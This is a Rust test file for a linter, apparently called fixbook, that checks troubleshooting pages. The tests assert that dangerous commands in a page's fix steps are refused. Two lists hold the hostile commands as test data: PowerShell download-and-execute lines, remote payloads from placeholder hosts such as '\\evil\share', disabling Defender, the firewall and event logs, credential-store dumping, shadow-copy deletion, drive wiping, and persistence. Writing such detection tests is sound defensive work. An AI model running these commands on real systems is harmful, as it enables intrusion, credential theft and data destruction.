//! Commands that a stranger might put into a page: each is refused in a fence of a shell, in a book that is set up with
//! care and in the one that `fixbook init` makes, and none hides in a fence of output or in backticks.

use std::fs;
use std::path::Path;

use fixbook::diagnostic::Severity;
use fixbook::files::Tree;
use fixbook::kb;

use crate::lints::page;

/// Each is refused wherever it stands.
const NEVER: &[&str] = &[
    r#"iex (iwr https://example.com/x.ps1)"#,
    r#"Invoke-Expression -Command $text"#,
    r#"$a = iex $text"#,
    r#"$a=iex $text"#,
    r#"@{a=iex $text}"#,
    r#".("ie"+"x") $text"#,
    r#"&("ie"+"x") $text"#,
    r#"i`e`x $text"#,
    r#"icm {iex $text}"#,
    r#"$ExecutionContext.InvokeCommand.InvokeScript($text)"#,
    r#"& ([ScriptBlock]::Create($text))"#,
    r#"[Reflection.Assembly]::Load($bytes)"#,
    r#"[Diagnostics.Process]::Start('a.exe')"#,
    r#"(New-Object -TypeName Net.WebClient).DownloadFile('https://example.com/x', 'x.exe')"#,
    r#"Invoke-WebRequest -Uri https://example.com/a.ps1 -OutFile a.ps1; .\a.ps1"#,
    r#"Invoke-WebRequest -Uri https://example.com/a.ps1 -o a.ps1"#,
    r#"Start-BitsTransfer -Source https://example.com/a.exe"#,
    r#"ipmo \\evil\share\x.psm1"#,
    r#"Import-Module -Name \\evil\share\x.psm1"#,
    r#"\\evil\share\a.exe"#,
    r#"& "\\evil\share\a.exe""#,
    r#"Start-Process -FilePath https://example.com/a.exe"#,
    r#"msiexec.exe /i https://example.com/a.msi /qn"#,
    r#"winget install Evil.Tool"#,
    r#"Install-Module -Name evil -Force"#,
    r#"rundll32.exe javascript:alert(1)"#,
    r#"wmic process call create a.exe"#,
    r#"certutil.exe -urlcache -f https://example.com/x x.exe"#,
    r#"Add-Type -TypeDefinition $source"#,
    r#"Set-MpPreference -DisableRealtimeMonitoring $true"#,
    r#"Set-MpPreference -DisableRealtimeMonitoring:$true"#,
    r#"sc.exe config WinDefend start= disabled"#,
    r#"Stop-Service -Name WinDefend"#,
    r#"Uninstall-WindowsFeature -Name Windows-Defender"#,
    r#"net.exe stop WinDefend"#,
    r#"Set-NetFirewallProfile -Profile Domain -Enabled False"#,
    r#"netsh.exe advfirewall set allprofiles state off"#,
    r#"bcdedit.exe /set testsigning on"#,
    r#"wevtutil.exe cl Security"#,
    r#"Disable-ComputerRestore -Drive 'C:\'"#,
    r#"fsutil.exe usn deletejournal /d C:"#,
    r#"Set-Item -Path WSMan:\localhost\Service\AllowUnencrypted -Value $true"#,
    r#"winrm.cmd set winrm/config/service @{AllowUnencrypted="true"}"#,
    r#"Enable-WindowsOptionalFeature -Online -FeatureName SMB1Protocol"#,
];

/// Each is refused in a fence on a page of little risk.
const COMMANDS: &[&str] = &[
    r#"cmd.exe /c "powershell iwr x | iex""#,
    r#"powershell.exe -Command "Remove-Item C:\""#,
    r#"bash -c "rm -rf /""#,
    r#"curl https://example.com/x | sh"#,
    r#"contoso-fix.exe /all"#,
    r#"& $tool -All"#,
    r#".\fix.ps1"#,
    r#"icacls.exe C:\ /grant Everyone:F /t"#,
    r#"takeown.exe /f C:\ /r"#,
    r#"reg.exe save HKLM\SAM C:\sam"#,
    r#"ntdsutil.exe "ac i ntds" "ifm" "create full C:\x" q q"#,
    r#"wbadmin.exe delete catalog"#,
    r#"vssadmin.exe delete shadows /all"#,
    r#"Get-ADUser -Filter * | Disable-ADAccount"#,
    r#"Add-Content -LiteralPath C:\Windows\System32\drivers\etc\hosts -Value '192.0.2.1 update.example.com'"#,
    r#"Enable-PSRemoting -Force"#,
    r#"New-LocalUser -Name helper"#,
    r#"Register-ScheduledTask -TaskName x -Action $action"#,
    r#"rm -r -fo C:\"#,
    r#"ri C:\ -r"#,
    r#"gci C:\ -r | ri -fo"#,
    r#"Remove-Item -Recurse -Path C:\"#,
    r#"Remove-Mailbox -Identity x -Confirm:$false"#,
    r#"rd /s /q D:\"#,
    r#"format.com D:"#,
    r#"diskpart.exe /s x.txt"#,
    r#"reg.exe delete HKLM\SOFTWARE /f"#,
    r#"reg.exe add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run /v x /d a.exe"#,
    r#"schtasks.exe /create /tn x /tr a.exe"#,
];

const CAREFUL: &str = "[book]\ntitle = \"Small\"\n\n[[shell]]\nid = \"powershell\"\ntitle = \"PowerShell\"\nquoting = \"powershell\"\n\n\
    [[shell]]\nid = \"cmd\"\ntitle = \"Command Prompt\"\n";

fn of_init() -> String {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("src/bin/fixbook/starter/book.toml");
    fs::read_to_string(path).expect("the settings of a new book")
}

/// The codes of the errors in a page that holds this text in its fix.
fn errors(settings: &str, text: &str) -> Vec<&'static str> {
    let body = format!("## Fix\n\n1. Run it:\n\n{text}\n\n## Verify\n\n1. Look at `app.log`.\n");
    let mut tree = Tree::default();
    tree.insert("book.toml", settings);
    tree.insert("kb/products.yaml", "- {id: app, title: App}\n");
    tree.insert("kb/app/page.md", page("low", &body));
    let (_, found) = kb::load(&tree);
    let errors = found.iter().filter(|fault| fault.code.severity == Severity::Error);
    // How a command is written is another matter.
    let is_of_style = |code: &&str| matches!(*code, "alias-in-command" | "positional-argument");
    errors
        .map(|fault| fault.code.name)
        .filter(|code| !is_of_style(code))
        .collect()
}

fn fenced(language: &str, command: &str) -> String {
    format!("   ```{language}\n   {command}\n   ```")
}

/// The rows that pass without an error.
fn passing(rows: &[&'static str], settings: &str, write: impl Fn(&str) -> String) -> Vec<&'static str> {
    let passes = |row: &&&'static str| errors(settings, &write(row)).is_empty();
    rows.iter().filter(passes).copied().collect()
}

#[test]
fn a_dangerous_command_is_refused_in_a_fence_of_a_shell() {
    let none: [&str; 0] = [];
    for settings in [CAREFUL, &of_init()] {
        assert_eq!(passing(NEVER, settings, |row| fenced("powershell", row)), none);
        assert_eq!(passing(COMMANDS, settings, |row| fenced("powershell", row)), none);
    }
}

#[test]
fn a_dangerous_command_is_refused_in_a_fence_of_output() {
    let none: [&str; 0] = [];
    assert_eq!(passing(NEVER, CAREFUL, |row| fenced("text", row)), none);
    let told = COMMANDS.len() - passing(COMMANDS, CAREFUL, |row| fenced("text", row)).len();
    assert!(told >= 20, "{told}: what nobody knows may be the output of a program");
}

#[test]
fn what_runs_foreign_code_is_refused_in_backticks() {
    let none: [&str; 0] = [];
    let spans: Vec<&str> = NEVER
        .iter()
        .copied()
        .filter(|row| row.contains(' ') && !row.contains('`'))
        .collect();
    assert_eq!(passing(&spans, CAREFUL, |row| format!("   Type `{row}`.")), none);
}
